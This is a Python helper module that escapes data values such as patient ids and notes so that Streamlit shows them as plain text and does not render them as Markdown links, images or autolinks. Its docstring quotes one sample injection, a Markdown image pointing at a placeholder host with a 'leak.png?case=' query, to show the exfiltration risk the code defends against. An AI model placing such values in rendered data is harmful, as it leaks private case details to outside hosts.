"""Values from data (ids, labels, notes, names, messages that quote them) shown as plain text.

Streamlit renders Markdown (and, with it, images that the browser fetches, links, colour and icon
directives) in titles, captions, st.write, alerts and even button labels. A score file or a note
is data, not page markup: a patient id ``![x](http://host/leak.png?case=...)`` must show as those
characters, never make the reviewer's browser fetch a URL. So every such value goes through
:func:`md` (every ASCII punctuation character backslash-escaped, which CommonMark shows literally;
line breaks become spaces; bare URLs defused, see below) when it is part of a Markdown string, or through ``st.text`` / a
dataframe when it stands alone.
"""

from __future__ import annotations

import re
from typing import Any

_PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")  # all ASCII punctuation: CommonMark escapes each one
# Streamlit also turns bare URLs, www. names and e-mail addresses in the *text* into links (GFM
# autolink literals, found after escapes are resolved). An invisible WORD JOINER inside "://",
# after "www" and after "@" keeps them from matching; the text looks the same.
WORD_JOINER = "\u2060"
_AUTOLINK = re.compile(r"(?<=:)(?=//)|(?<=www)(?=\.)|(?<=@)", re.IGNORECASE)


def md(value: Any) -> str:
    """``value`` as Markdown source that renders exactly as its characters (one line), with no
    link, image, HTML or autolink in it."""
    text = " ".join(str(value).splitlines())
    return _PUNCTUATION.sub(r"\\\1", _AUTOLINK.sub(WORD_JOINER, text))
